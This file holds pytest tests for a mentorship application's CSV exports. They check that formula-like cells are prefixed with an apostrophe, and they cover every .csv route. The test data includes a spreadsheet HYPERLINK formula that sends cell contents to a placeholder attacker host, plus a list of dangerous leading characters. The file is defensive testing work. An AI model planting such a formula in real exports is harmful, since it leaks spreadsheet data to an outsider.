import csv
import io

import pytest

from mentorship.exports import csv_text, safe_cell


@pytest.mark.parametrize("value", ['=HYPERLINK("http://evil.example/?x="&A1,"click")',
                                   "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_cells_are_written_as_text(value):
    [[cell]] = csv.reader(io.StringIO(csv_text([[value]])))
    assert cell == "'" + value


@pytest.mark.parametrize("value", ["Olena", "Élodie Martin", "يوسف", "a=b", "", 42, -3, 1.5])
def test_other_cells_are_untouched(value):
    assert safe_cell(value) == value


def test_every_csv_export_neutralises_formulas(app, client):
    """Each .csv route of the URL map, with a volunteer whose name is a formula."""
    from mentorship.accounts.models import User
    from mentorship.dates import programme_today
    from mentorship.demo import DEMO_PASSWORD, seed_demo
    from mentorship.extensions import db
    from mentorship.reports import services as reports

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    with app.app_context():
        seed_demo()
        for email in ("mentor@example.org", "amina.benali@example.org"):
            db.session.scalar(db.select(User).where(User.email == email)).name = evil
        db.session.commit()
        year = programme_today().year
        coordinator = db.session.scalar(db.select(User).where(
            User.email == "coordinator@example.org"))
        reports.publish(coordinator, year - 1, "first")
        db.session.commit()
    routes = sorted(rule.rule for rule in app.url_map.iter_rules() if ".csv" in rule.rule)
    assert len(routes) >= 4, routes
    checked, neutralised = 0, 0
    for email in ("coordinator@example.org", "mentor@example.org"):
        client.post("/login", data={"email": email, "password": DEMO_PASSWORD})
        for route in routes:
            response = client.get(route.replace("<int:year>", str(year - 1)))
            if response.status_code != 200:
                continue
            checked += 1
            text = response.get_data(as_text=True)
            cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
            neutralised += cells.count("'" + evil)
            assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], route
            assert not [c for c in cells if c[:1] == "-" and not _number(c)], route
        client.post("/logout")
    assert checked >= 4 and neutralised >= 2


def _number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True
